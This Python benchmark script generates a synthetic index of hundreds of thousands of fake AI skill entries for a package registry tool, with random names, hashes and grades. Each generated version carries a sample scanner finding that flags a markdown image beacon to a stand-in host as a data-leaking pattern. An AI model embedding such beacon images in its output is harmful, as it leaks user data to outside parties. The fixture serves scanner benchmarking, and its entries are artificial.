"""Write a synthetic registry index of N entries (default 350,000) for the scale numbers.

    python bench/synthetic_index.py OUT_DIR [N]

Entries have the real format (format.dumps_entry), realistic sizes (a few files, a finding,
two versions for one entry in ten) and made-up but searchable names and descriptions.
Files are written plainly (no fsync): this is a benchmark fixture, not an index update.
"""

from __future__ import annotations

import hashlib
import random
import sys
import time
from pathlib import Path

WORDS = ("pdf docx xlsx csv json yaml markdown git github docker kubernetes terraform aws azure gcp react vue "
         "svelte python rust go typescript test lint deploy review security audit data sql postgres redis kafka "
         "image video audio slack email calendar notion jira linear figma design api graphql rest cli shell "
         "browser playwright scrape search index cache log metrics trace debug refactor migrate docs").split()


def main() -> None:
    from skillpm.index.format import Entry, Version, dumps_entry, entry_relpath
    from skillpm.index.store import DEFAULT_CONFIG, catalog_text, config_text

    out = Path(sys.argv[1])
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 350_000
    rng = random.Random(42)
    out.mkdir(parents=True, exist_ok=True)
    (out / "config.toml").write_text(config_text(DEFAULT_CONFIG))
    rows = []
    start = time.perf_counter()
    made_dirs: set[Path] = set()
    for i in range(n):
        owner, repo = f"owner{i % 20000}", f"repo{(i // 20000) % 50}"
        w = rng.sample(WORDS, 4)
        name = f"{w[0]}-{w[1]}-{i}"
        sid = f"{owner}/{repo}/{name}"
        desc = f"Use this skill to {w[0]} {w[1]} with {w[2]} and {w[3]}; handles {rng.choice(WORDS)} files."
        text = f"---\nname: {name}\ndescription: {desc}\n---\n# {name}\n" + " ".join(rng.choices(WORDS, k=200))
        files = [{"path": "SKILL.md", "size": len(text), "sha256": hashlib.sha256(text.encode()).hexdigest()}]
        for j in range(rng.randint(0, 6)):
            p = f"references/{rng.choice(WORDS)}-{j}.md"
            files.append({"path": p, "size": rng.randint(200, 20000), "sha256": hashlib.sha256(p.encode()).hexdigest()})
        versions = []
        for k in range(2 if i % 10 == 0 else 1):
            versions.append(Version(
                commit=hashlib.sha1(f"{sid}{k}".encode()).hexdigest(), tree=hashlib.sha1(f"t{sid}{k}".encode()).hexdigest(),
                h1="h1:" + hashlib.sha256(f"{sid}{k}".encode()).digest().hex()[:43] + "=", first_seen="2026-11-30",
                last_seen="2026-11-30", lines=text.count("\n") + 1,
                tokens={"session": 30 + i % 70, "invoke": 300 + i % 3000, "resources": i % 9000},
                grade="ABBCDF"[i % 6], findings={"critical": 0, "high": 0, "medium": 1, "low": 0, "info": 0},
                rules="bench", files=files, executables=[],
                finding=[{"rule": "EX-04", "severity": "medium", "file": "SKILL.md", "line": 7,
                          "text": "![s](https://t.example/p?d=x)", "message": "beacon"}]))
        e = Entry(id=sid, name=name, description=desc, repo=f"https://github.com/{owner}/{repo}",
                  path=f"skills/{name}", license="MIT", created="2026-01-01", signature="".join(f"{h:08x}" for h in sorted(rng.getrandbits(32) for _ in range(64))),
                  versions=versions)
        path = out / entry_relpath(sid)
        if path.parent not in made_dirs:
            path.parent.mkdir(parents=True, exist_ok=True)
            made_dirs.add(path.parent)
        path.write_text(dumps_entry(e), encoding="utf-8")
        rows.append(e.catalog_row())
        if (i + 1) % 50_000 == 0:
            print(f"{i + 1} entries, {time.perf_counter() - start:.0f}s", file=sys.stderr, flush=True)
    (out / "catalog.tsv").write_text(catalog_text(rows), encoding="utf-8")
    print(f"wrote {n} entries to {out} in {time.perf_counter() - start:.0f}s", file=sys.stderr)


if __name__ == "__main__":
    main()
